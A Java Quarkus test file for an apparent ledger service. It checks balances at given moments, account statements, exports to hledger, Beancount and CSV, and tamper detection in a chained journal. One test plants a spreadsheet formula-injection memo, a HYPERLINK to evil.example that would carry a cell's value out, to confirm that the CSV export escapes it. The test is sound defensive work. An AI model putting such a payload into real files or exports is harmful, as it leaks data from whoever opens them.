// SPDX-License-Identifier: Apache-2.0
package org.folkmoot.treasury;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.endsWith;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.folkmoot.record.JournalCheck;
import org.folkmoot.testkit.Backends;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What an account held when is told exactly, and other programs read the books and come to the same balances. */
@QuarkusTest
@QuarkusTestResource(Backends.class)
class ExportTest {
    @TempDir
    Path folder = Path.of(".");

    private Town town = Town.planned();

    @BeforeEach
    void moveSomething() {
        town = Town.found();
        Decision.in(town)
                .enact(
                        1,
                        Decision.with(
                                Decision.transfer("treasury", "harbour", "100.00"), "memo", "\"Ropes\"; nails, tar"));
        Decision.in(town).enact(1, Decision.transfer("harbour", Town.member("b"), "0.01"));
        Decision.in(town)
                .enact(
                        1,
                        Decision.with(
                                Decision.with(Decision.transfer("treasury", "school", "5.00"), "type", "treasury.hold"),
                                "term",
                                "P36500D"));
    }

    @Test
    void aBalanceIsThatOfItsMoment() {
        var at = Instant.parse(town.get("/transfers?limit=2").extract().path("items[1].at"));

        expectBalance(at, "900.00");
        expectBalance(at.minusMillis(1), "1000.00");
        expectBalance(at.plusMillis(1), "900.00");
        expectBalance(at.minusNanos(1), "1000.00");
        expectBalance(at.minusSeconds(86_400), "0.00");
        town.get("/balances/treasury?at=yesterday").statusCode(400);
        town.get("/balances/nobody?at=" + at).statusCode(404);
        expectBalance(Instant.parse("0001-01-01T00:00:00Z"), "0.00");
        expectBalance(Instant.parse("9999-12-31T23:59:59.999Z"), "900.00");
        for (var year : List.of("0000", "-0001", "-10000", "%2B10000", "%2B1000000000"))
            town.get("/balances/treasury?at=" + year + "-01-01T00:00:00Z")
                    .statusCode(400)
                    .body("type", endsWith("moment-invalid"));
    }

    @Test
    void beancountReadsAssetsOfAnyName() throws Exception {
        var named = Town.found(
                Town.text()
                        .replace(
                                "HOURS: { scale: 0 }",
                                "HOURS: { scale: 0 }\n  H: { scale: 0 }\n  \"TRUE\": { scale: 2 }\n  \"NULL\": { scale: 2 }")
                        .replace(
                                "harbour: { asset: SKR }",
                                "harbour: { asset: SKR }\n  a: { asset: H, opening: \"7\" }\n  b: { asset: \"TRUE\", opening: \"0.01\" }\n  c: { asset: \"NULL\", opening: \"1\" }"));
        Town.await(() -> named.expectBalance("a", "7"));

        var books = named.get("/journal/beancount").extract().asString();

        assertThat(books).contains("Assets:A  7 H-X", "Assets:B  0.01 TRUE-X", "Assets:C  1.00 NULL-X", " SKR\n");
        run(
                "/usr/bin/bean-check",
                Files.writeString(folder.resolve("books.beancount"), books).toString());
    }

    /** What Beancount asserts of an account is also of those under it. */
    @Test
    void beancountReadsAccountsThatAreCalledAsWhatOthersStandUnder() throws Exception {
        var named = Town.found(
                Town.text()
                        .replace(
                                "harbour: { asset: SKR }",
                                "harbour: { asset: SKR }\n  member: { asset: SKR, opening: \"1.00\" }\n"
                                        + "  escrow: { asset: SKR, opening: \"2.00\" }\n  deposit: { asset: SKR, opening: \"3.00\" }"));
        Decision.in(named).enact(1, Decision.transfer("member", Town.member("Bea"), "0.40"));

        var books = named.get("/journal/beancount").extract().asString();

        assertThat(books)
                .contains(
                        "balance Assets:Member-X  0.60 SKR",
                        "balance Assets:Escrow-X  2.00 SKR",
                        "balance Assets:Deposit-X  3.00 SKR");
        run(
                "/usr/bin/bean-check",
                Files.writeString(folder.resolve("books.beancount"), books).toString());
    }

    private void expectBalance(Instant at, String balance) {
        town.get("/balances/treasury?at=" + at)
                .statusCode(200)
                .body("balance", contains(balance))
                .body("asset", contains("SKR"));
    }

    @Test
    void aStatementSaysWhatWasLeftEachTime() {
        town.get("/statements/harbour?asset=SKR")
                .statusCode(200)
                .body("items.amount", contains("100.00", "-0.01"))
                .body("items.balance", contains("100.00", "99.99"))
                .body("items[0].with", equalTo("treasury"));
        var next = town.get("/statements/harbour?asset=SKR&limit=1").extract().<String>path("next");
        town.get("/statements/harbour?asset=SKR&limit=1&after=" + next).body("items.balance", contains("99.99"));
        town.get("/statements/harbour?asset=HOURS").statusCode(404);
    }

    @Test
    void hledgerComesToTheSameBalances() throws Exception {
        var file = save("hledger");

        run("/usr/bin/hledger", "-f", file.toString(), "check", "-s");
        assertThat(run("/usr/bin/hledger", "-f", file.toString(), "balancesheetequity"))
                .containsSubsequence("Assets", "harbour", "Equity", "issuance/SKR")
                .containsPattern("Net:\\s+\\|\\|\\s+0");
        assertThat(run("/usr/bin/hledger", "-f", file.toString(), "balance", "^harbour$", "--no-total"))
                .contains("99.99");
    }

    @Test
    void beancountComesToTheSameBalances() throws Exception {
        run("/usr/bin/bean-check", save("beancount").toString());
    }

    @Test
    void theBooksSayEveryAmountWithAllOfItsDigits() {
        assertThat(text("hledger"))
                .contains("commodity 1000.00 \"SKR\"", "commodity 1000. \"HOURS\"", "  -100.00 \"SKR\"")
                .contains("harbour  0 \"SKR\" = 99.99 \"SKR\"");
        assertThat(text("beancount")).contains("balance Assets:Harbour  99.99 SKR", "\"\\\"Ropes\\\"; nails, tar\"");
        assertThat(text("csv").lines().toList())
                .hasSize(6)
                .anySatisfy(line -> assertThat(line)
                        .contains(",decided,treasury,harbour,SKR,100.00,")
                        .endsWith(",\"\"\"Ropes\"\"; nails, tar\""));
        town.get("/journal/pdf").statusCode(400);
    }

    @Test
    void noSpreadsheetTakesAMemoForAFormula() {
        var memo = "=HYPERLINK(\"https://evil.example/?x=\"&F2,\"receipt\")";
        Decision.in(town).enact(1, Decision.with(Decision.transfer("harbour", "treasury", "0.01"), "memo", memo));

        assertThat(text("csv")).endsWith(",\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&F2,\"\"receipt\"\")\"\r\n");
    }

    @Test
    void theRootsAreThoseOfTheLinesAndAnyChangeIsFound() {
        var lines = text("jsonl").lines().toList();

        var found = JournalCheck.check(bytes(lines));

        assertThat(found.fault()).isEmpty();
        assertThat(found.blocks()).isEqualTo(6);
        assertThat(check(lines, 3, lines.get(3).replace("10000", "10001"))).contains("block 4: its root is not");
        assertThat(check(lines, 3, lines.get(2))).contains("block 4: its number is 3");
        assertThat(check(lines, 3, "{}")).contains("block 4: it is no block");
        // Nothing is wrong with what is left when the end is cut off, but whoever kept the last head sees it.
        assertThat(JournalCheck.check(bytes(lines.subList(0, 5))).head()).isNotEqualTo(found.head());
    }

    private static String check(List<String> lines, int changed, String line) {
        var other = new java.util.ArrayList<>(lines);
        other.set(changed, line);
        return JournalCheck.check(bytes(other)).fault().orElse("");
    }

    private static java.util.Iterator<byte[]> bytes(List<String> lines) {
        return lines.stream().map(line -> line.getBytes(UTF_8)).iterator();
    }

    private String text(String format) {
        return town.get("/journal/" + format).statusCode(200).extract().asString();
    }

    private Path save(String format) throws IOException {
        return Files.writeString(folder.resolve("books." + format), text(format));
    }

    private static String run(String... command) throws IOException, InterruptedException {
        assumeTrue(Files.isExecutable(Path.of(command[0])), command[0] + " is not installed");
        var process = new ProcessBuilder(command).redirectErrorStream(true).start();
        var said = new String(process.getInputStream().readAllBytes(), UTF_8);
        assertThat(process.waitFor()).as(said).isZero();
        return said;
    }
}
